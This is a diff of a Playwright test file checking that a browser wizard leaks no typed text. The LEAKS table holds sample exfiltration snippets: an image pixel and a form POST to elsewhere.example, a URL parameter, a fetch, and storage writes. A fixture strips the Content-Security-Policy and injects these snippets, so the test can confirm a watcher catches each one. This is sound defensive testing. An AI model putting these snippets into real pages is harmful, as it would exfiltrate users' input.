@@ -1,38 +1,115 @@
-"""Nothing typed or answered leaves the tab: no request, no address, no storage."""
+"""Nothing typed or answered leaves the browser: shown on a whole journey; and a leak would be noticed."""
+
+from pathlib import Path
 
 import pytest
-from playwright.sync_api import Page
+from playwright.sync_api import Browser, Page
 
+from tests.proof import prove
 from wizard.model import Policy
 
-from .wizard_driver import VIEW, Wizard
+from .serving import Faults, served
+from .typist import Typist, most_letters
+from .watching import CANARY, watched
+from .wizard_driver import Wizard
 
 pytestmark = pytest.mark.browser
 
-CANARY = "CANARY-7f3a"
-EVERYTHING_KEPT = """async () => JSON.stringify({
-  url: location.href, title: document.title, state: history.state, cookie: document.cookie,
-  local: {...localStorage}, session: {...sessionStorage},
-  databases: await indexedDB.databases(), caches: self.caches ? await caches.keys() : [],
-})"""
+TAB_ICON = "/assets/favicon.svg"
+"""Fetched by the browser for its tab, when it likes."""
+
+SEND = "const f = document.body.appendChild(document.createElement('form'));"
+LEAKS = {
+    "a pixel": ("new Image().src = `http://elsewhere.example/pixel.png?${C}`", ["asked elsewhere"]),
+    "a form action": (
+        f"{SEND} f.action = 'http://elsewhere.example/'; f.target = '_blank'; f.method = 'post';"
+        "f.innerHTML = `<input name=text value=${C}>`; f.submit()",
+        ["asked elsewhere", "sent elsewhere"],
+    ),
+    "a parameter in the address": ("history.replaceState(null, '', `?reason=${C}`)", ["address of"]),
+    "a request to our own server": ("fetch(`notes?text=${btoa(C)}`).catch(() => {})", ["in the network log"]),
+    "what a page can keep": (
+        "document.title = localStorage.draft = sessionStorage.draft = window.name = document.cookie = C;"
+        "indexedDB.open('drafts').onupgradeneeded = (e) =>"
+        " e.target.result.createObjectStore('t', { autoIncrement: true }).put({ text: C })",
+        ["localStorage of", "sessionStorage of", "IndexedDB of", "title of", "cookies", "on disk as text"],
+    ),
+}
 
 
-def test_typed_text_is_found_nowhere_but_in_the_page(policy: Policy, wizard: Wizard) -> None:
-    case = next(s for s in policy.scenarios if dict(s.expect).get("letters"))
-    wizard.answer_all(dict(case.facts))
-    asked: list[str] = []
-    wizard.page.context.on("request", lambda request: asked.append(request.url))
-    wizard.go(f"letter:{dict(case.expect)['letters'][0]}")
-    for field in wizard.page.locator(f"{VIEW} :is(input, textarea)[data-field]").all():
-        field.fill(CANARY)
-    wizard.page.wait_for_timeout(600)
-    with wizard.page.expect_download() as download:
-        wizard.page.locator(f"{VIEW} [data-word]").click()
-    assert CANARY not in download.value.suggested_filename
-    kept = wizard.page.evaluate(EVERYTHING_KEPT)
-    assert CANARY not in kept
-    assert "answers" not in kept
-    assert [url for url in asked if not url.startswith("blob:")] == []
+def test_a_whole_journey_with_text_in_every_field_leaks_nothing(
+    policy: Policy, browser: Browser, chromium: str, site: Path, tmp_path: Path
+) -> None:
+    typist, faults = Typist(), Faults()
+    after_start: list[str] = []
+    with (
+        served(site, faults) as address,
+        watched(browser.browser_type, chromium, address, tmp_path) as watch,
+    ):
+        for scenario, letters in most_letters(policy, 3):
+            page = watch.context.new_page()
+            page.on("dialog", lambda dialog: dialog.accept())
+            wizard = Wizard(page, address).open()
+            page.locator("[data-wizard][data-ready]").wait_for()
+            page.wait_for_load_state("networkidle")
+            before = len(faults.asked)
+            typist.case(wizard, scenario, letters)
+            after_start += (path for path in faults.asked[before:] if path != TAB_ICON)
+            watch.look(page)
+        page = watch.context.new_page()
+        typist.other_rooms(page, address)
+        watch.look(page)
+    leaks = watch.leaks()
+    assert leaks == []
+    assert after_start == []
+    assert not faults.reports
+    letters_made = sum(step.startswith("letter:") for step in typist.steps)
+    prove(
+        "privacy",
+        policy,
+        steps=len(typist.steps),
+        fields=typist.fields,
+        letters=letters_made,
+        files=typist.files,
+        requests_after_start=len(after_start),
+        leaks=len(leaks),
+        refusals=len(faults.reports),
+    )
+
+
+@pytest.fixture
+def leaky(site: Path, tmp_path: Path) -> Path:
+    """The site without its protection, and a script in the page of the questions that leaks on purpose."""
+    folder = tmp_path / "leaky"
+    (folder / "wizard").mkdir(parents=True)
+    for part in site.iterdir():
+        if part.name not in ("web.config", "wizard"):
+            (folder / part.name).symlink_to(part)
+    for part in (site / "wizard").iterdir():
+        if part.name != "index.html":
+            (folder / "wizard" / part.name).symlink_to(part)
+    html = (site / "wizard" / "index.html").read_text(encoding="utf-8")
+    html = html.replace("Content-Security-Policy", "x").replace(
+        "</body>", '<script src="leak.js"></script></body>'
+    )
+    (folder / "wizard" / "index.html").write_text(html, encoding="utf-8")
+    return folder
+
+
+@pytest.mark.parametrize("leak", LEAKS)
+def test_a_leak_put_in_on_purpose_is_noticed(
+    browser: Browser, chromium: str, leaky: Path, tmp_path: Path, leak: str
+) -> None:
+    program, told = LEAKS[leak]
+    (leaky / "wizard" / "leak.js").write_text(f"const C = '{CANARY}'; setTimeout(() => {{ {program} }});")
+    with served(leaky) as address, watched(browser.browser_type, chromium, address, tmp_path) as watch:
+        page = watch.context.pages[0]
+        page.goto(f"{address}/wizard/index.html")
+        page.wait_for_timeout(1000)
+        watch.look(page)
+    leaks = watch.leaks()
+    for what in told:
+        assert [one for one in leaks if one.startswith(what)], leaks
 
 
 def test_the_whole_journey_works_without_a_network_once_the_engine_is_up(
@@ -46,8 +123,17 @@ def test_the_whole_journey_works_without_a_network_once_the_engine_is_up(
     wizard.go(f"letter:{dict(case.expect)['letters'][0]}")
 
 
-def test_pages_of_the_guide_ask_only_our_server(page: Page, address: str, policy: Policy) -> None:
-    folders = [f"policy/{section.slug}.html" for section in policy.sections[:3]]
-    for path in ("index.html", "policy/index.html", "decisions/index.html", "letters/index.html", *folders):
+@pytest.fixture
+def rooms(site: Path) -> list[str]:
+    """One page of each room of the guide."""
+    return [
+        min(room.glob("*.html"), key=lambda page: page.name).relative_to(site).as_posix()
+        for room in sorted(site.iterdir())
+        if room.is_dir() and list(room.glob("*.html"))
+    ]
+
+
+def test_pages_of_the_guide_ask_only_our_server(page: Page, address: str, rooms: list[str]) -> None:
+    for path in rooms:
         answer = page.goto(f"{address}/{path}", wait_until="networkidle")
         assert answer is not None and answer.ok, path
